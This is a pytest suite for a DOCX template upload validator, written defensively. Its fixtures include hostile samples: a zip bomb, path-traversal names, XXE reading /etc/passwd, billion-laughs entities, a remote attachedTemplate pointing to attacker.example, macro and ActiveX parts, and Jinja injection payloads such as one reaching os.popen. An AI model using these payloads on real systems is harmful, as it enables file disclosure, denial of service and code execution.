"""Uploaded DOCX templates: what is accepted, and every hostile or broken file refused with a message naming why."""

from __future__ import annotations

import hashlib
import io
import zipfile

import docx
import pytest

from portal.dpa.upload import UploadLimits, validate_docx
from portal.errors import InvalidInput

ALLOWED = frozenset({"client", "client.name", "client.address", "notice_days", "subprocessors", "sp", "sp.name",
                     "sp.locations"})
LOOPS = {"sp": "subprocessors"}
MiB = 1 << 20


def build(*paragraphs: str | list[str]) -> bytes:
    """A real DOCX written by python-docx; a list is one paragraph split into runs, as Word splits text."""
    document = docx.Document()
    for paragraph in paragraphs:
        runs = [paragraph] if isinstance(paragraph, str) else paragraph
        p = document.add_paragraph()
        for i, text in enumerate(runs):
            p.add_run(text).bold = bool(i % 2)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The same package with some parts replaced or added (how a hostile file is made)."""
    replace, add = replace or {}, add or {}
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in add.items():
            target.writestr(name, content)
    return output.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def refusal(data: bytes, limits: UploadLimits | None = None) -> str:
    with pytest.raises(InvalidInput) as caught:
        validate_docx(data, allowed=ALLOWED, limits=limits or UploadLimits(), loops=LOOPS)
    assert caught.value.fields == {"file": caught.value.message}
    return caught.value.message


def test_a_clean_template_is_accepted_with_its_hash_and_sorted_placeholders():
    data = build(["Client: {{ cli", "ent.na", "me }}, {{ client.address }}"],
                 "{% if notice_days > 14 %}Notice: {{ notice_days }} days{% endif %}",
                 "{% for sp in subprocessors %}",
                 "{{ loop.index }}. {{ sp.name }} ({{ sp.locations | default('EU') }})",
                 "{% endfor %}")

    validated = validate_docx(data, allowed=ALLOWED, loops=LOOPS)

    assert validated.data == data
    assert validated.sha256 == hashlib.sha256(data).hexdigest()
    assert validated.placeholders == ("client.address", "client.name", "notice_days", "sp.locations", "sp.name",
                                      "subprocessors")


def test_placeholders_in_headers_and_footers_are_checked_too():
    document = docx.Document()
    document.add_paragraph("Body")
    document.sections[0].footer.paragraphs[0].text = "{{ secret_key }}"
    buffer = io.BytesIO()
    document.save(buffer)

    assert "Unknown placeholders: {{ secret_key }}" in refusal(buffer.getvalue())


def test_empty_and_oversize_files_are_refused_before_anything_is_read():
    assert refusal(b"") == "The file is empty."
    assert "templates may be at most 5.0 MiB" in refusal(b"PK\x03\x04" + bytes(5 * MiB))


@pytest.mark.parametrize("data", [b"\x89PNG\r\n\x1a\n" + bytes(64), b"Dear client, please sign.\n"],
                         ids=["png", "text"])
def test_a_file_that_is_not_a_zip_is_refused(data):
    assert refusal(data).startswith("This is not a Word document")


def test_a_zip_that_is_not_a_word_document_is_refused():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert "not a Word document (it has no word/document.xml)" in refusal(output.getvalue())


def test_a_document_whose_main_part_is_not_word_processing_is_refused():
    data = build("Hello")
    types = part(data, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml")
    assert "its main part is declared as" in refusal(rezip(data, replace={"[Content_Types].xml": types}))


def test_a_zip_bomb_is_refused_from_the_directory_alone():
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(build("Hello"))) as source, \
            zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        with target.open("word/media/padding.xml", "w", force_zip64=True) as member:
            zeros = bytes(MiB)
            for _ in range(200):
                member.write(zeros)
    bomb = output.getvalue()
    assert len(bomb) < MiB  # 200 MiB of zeros packs into a few hundred KiB

    assert "“word/media/padding.xml” unpacks to 200.0 MiB" in refusal(bomb)
    assert "looks like a ZIP bomb" in refusal(bomb)


def test_a_member_compressed_beyond_the_ratio_is_refused():
    data = rezip(build("Hello"), add={"word/filler.xml": bytes(10 * MiB)})
    assert "is compressed more than 100:1" in refusal(data)


def test_a_package_that_unpacks_to_too_much_in_total_is_refused():
    limits = UploadLimits(max_total_bytes=40_000)
    assert "in total" in refusal(build("Hello"), limits)


def test_too_many_members_are_refused():
    data = rezip(build("Hello"), add={f"word/extra/{i}.xml": b"<x/>" for i in range(400)})
    assert "holds 4" in refusal(data) and "at most 300 are accepted" in refusal(data)


@pytest.mark.parametrize("name", ["../../etc/cron.d/evil", "/etc/passwd", "word\\..\\evil.xml", "C:/evil.xml"])
def test_a_member_with_an_unsafe_path_is_refused(name):
    assert "unsafe path" in refusal(rezip(build("Hello"), add={name: b"<x/>"}))


def test_duplicate_member_names_are_refused():
    data = build("Hello")
    output = io.BytesIO(data)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(output, "a") as archive:
        archive.writestr("word/document.xml", part(data, "word/document.xml"))
    assert "holds the name “word/document.xml” more than once" in refusal(output.getvalue())


def test_an_encrypted_member_is_refused():
    data = bytearray(build("Hello"))
    # Set the "encrypted" bit of word/document.xml's central directory entry, as a password-protected archive has.
    entry = data.find(b"PK\x01\x02")
    while data[entry + 46:entry + 46 + int.from_bytes(data[entry + 28:entry + 30], "little")] != b"word/document.xml":
        entry = data.find(b"PK\x01\x02", entry + 4)
    data[entry + 8] |= 0x1
    assert "encrypted file (“word/document.xml”)" in refusal(bytes(data))


def test_a_docx_with_a_vba_project_and_the_macro_enabled_type_is_refused():
    data = build("Hello")
    types = part(data, "[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    message = refusal(rezip(data, replace={"[Content_Types].xml": types}, add={"word/vbaProject.bin": b"\xd0\xcf"}))
    assert "contains macros (word/vbaProject.bin)" in message


def test_a_docm_main_content_type_is_refused():
    data = build("Hello")
    types = part(data, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    assert "macro-enabled (.docm)" in refusal(rezip(data, replace={"[Content_Types].xml": types}))


def test_activex_controls_are_refused():
    data = rezip(build("Hello"), add={"word/activeX/activeX1.xml": b"<ax/>"})
    assert "ActiveX controls" in refusal(data)


def test_an_external_attached_template_is_refused():
    data = build("Hello")
    rels = part(data, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    message = refusal(rezip(data, replace={"word/_rels/document.xml.rels": rels}))
    assert "loads external content when opened (a “attachedTemplate” link to http://attacker.example/t.dotm" in message


def test_an_external_hyperlink_is_accepted():
    data = build("Hello")
    rels = part(data, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="https://example.org/" TargetMode="External"/></Relationships>')
    accepted = validate_docx(rezip(data, replace={"word/_rels/document.xml.rels": rels}), allowed=ALLOWED)
    assert accepted.placeholders == ()


@pytest.mark.parametrize("declaration", [
    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
], ids=["xxe", "billion-laughs"])
def test_xml_with_doctype_or_entities_is_refused(declaration):
    data = build("Hello")
    xml = part(data, "word/document.xml")
    reference = b"&xxe;" if b"xxe" in declaration else b"&c;"
    xml = xml.replace(b"?>", b"?>" + declaration, 1).replace(b"Hello", reference)
    message = refusal(rezip(data, replace={"word/document.xml": xml}))
    assert "“word/document.xml” declares a DOCTYPE or entities" in message


def test_a_doctype_hidden_by_a_utf16_encoding_is_refused():
    data = build("Hello")
    xml = part(data, "word/document.xml").decode()
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace(
        "?>", '?><!DOCTYPE w:document [<!ENTITY x "y">]>', 1)
    assert "declares a DOCTYPE" in refusal(rezip(data, replace={"word/document.xml": xml.encode("utf-16")}))


@pytest.mark.parametrize(("payload", "named"), [
    ("{{ self.__init__.__globals__ }}", "“__globals__”"),
    ("{{ ''.__class__.__mro__ }}", "“__mro__”"),
    ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "calling “"),
    ("{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}", "“__subclasses__”"),
    ("{{ client.name.upper() }}", "calling “client.name.upper(…)”"),
    ("{{ client['_secret'] }}", "“_secret”"),
    ("{% for i in range(100000) %}x{% endfor %}", "calling “range(…)”"),
    ("{{ client.name * 1000000 }}", "mul expressions"),
    ("{{ client.name | attr('__class__') }}", "the “attr” filter"),
    ("{% set x = client %}{{ x }}", "the {% set %} tag"),
    ("{% include 'other.xml' %}", "the {% include %} tag"),
    ("{% macro m() %}{% endmacro %}", "the {% macro %} tag"),
], ids=["self-globals", "str-mro", "cycler-popen", "subclasses", "method-call", "underscore-key", "range",
        "multiply", "attr-filter", "set", "include", "macro"])
def test_template_injection_payloads_are_refused(payload, named):
    message = refusal(build(payload))
    assert message.startswith("The template uses what templates may not: ")
    assert named in message


def test_an_unknown_placeholder_is_refused_by_name():
    message = refusal(build(["Dear {{ client.na", "mee }} and {{ client.name }}, {{ vendor_secret }}"]))
    assert message.startswith("Unknown placeholders: {{ client.namee }}, {{ vendor_secret }}.")


def test_a_loop_variable_must_be_the_one_the_catalog_gives_its_list():
    message = refusal(build("{% for x in subprocessors %}{{ x.name }}{% endfor %}"))
    assert "{% for x in subprocessors %}; write {% for sp in subprocessors %}" in message


def test_a_loop_variable_used_outside_its_loop_is_refused():
    assert "“sp.name” outside {% for sp in subprocessors %}" in refusal(build("{{ sp.name }}"))


@pytest.mark.parametrize("text", ["{{ client.name }", "{% if client.name %}open", "{% for sp in %}{% endfor %}",
                                  "{% endif %}"], ids=["unclosed-output", "unclosed-if", "bad-for", "stray-endif"])
def test_jinja_syntax_errors_are_refused(text):
    message = refusal(build(text))
    assert "a tag Jinja cannot read" in message or "opens or closes a {% for %} or {% if %} block" in message


def test_a_block_split_across_paragraphs_without_its_own_paragraphs_is_refused():
    message = refusal(build("Intro {% if client.name %}shown", "still shown{% endif %} end"))
    assert "The paragraph “Intro {% if client.name %}shown” opens or closes" in message
